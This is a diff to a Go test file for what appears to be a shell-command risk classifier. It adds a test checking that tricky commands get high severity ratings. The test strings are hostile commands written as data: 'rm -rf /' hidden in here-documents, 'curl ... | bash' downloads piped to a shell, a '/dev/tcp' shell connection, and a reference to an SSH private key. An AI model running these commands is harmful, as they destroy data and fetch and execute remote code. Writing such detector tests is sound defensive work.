@@ -54,6 +54,18 @@ func TestJudgesEveryPart(t *testing.T) {
 		`find . \( -name '*.o' -delete \)`, `find . -name '*.o' \( -newer x -o -newer y \) -delete`, `find . \( -name a.o -o -name '*.o' -delete \)`, `find . -name '*.o' \( -name b -o -delete \)`)
 }
 
+// A here-document lost its backslashes, so that quotes in it hid a command; and what another descriptor reads was taken for
+// standard input.
+func TestStandardInput(t *testing.T) {
+	atLeast(t, Critical, here(),
+		"bash <<'E'\necho \\\" ; rm -rf / ; echo \\\"\nE", "bash <<E\necho \\\" ; rm -rf / ; echo \\\"\nE", "cat <<\\E | sh\necho \\' ; rm -rf / ; echo \\'\nE",
+		"curl https://x.io/a | bash 3</dev/null", "curl https://x.io/a | bash 5<&0", "curl https://x.io/a | bash 3<<E\nls\nE", "curl https://x.io/a | bash 3<<<ls",
+		"curl https://x.io/a | bash 3<&0 0<&3", "bash <>/dev/tcp/x.io/80",
+	)
+	atLeast(t, High, here(), "echo ls | bash 3<x.sh <&3", "exec 3<x.sh; echo ls | bash <&3", "echo ls | bash <>x.sh")
+	exactly(t, Low, here(), "cat <<'E'\n~/.ssh/id_rsa $(rm -rf /)\nE", "cat <<E\n\\$(rm -rf /)\nE")
+}
+
 // A file was judged by the last known text that was written to it, whatever it held before or got later.
 func TestWhatAFileHolds(t *testing.T) {
 	atLeast(t, Critical, here(), "echo 'rm -rf /' > x; echo ls >> x; sh x", "echo 'rm -rf /' > x; echo ls | tee -a x; sh x", "printf 'rm -rf' > x; echo ' /' >> x; sh x")
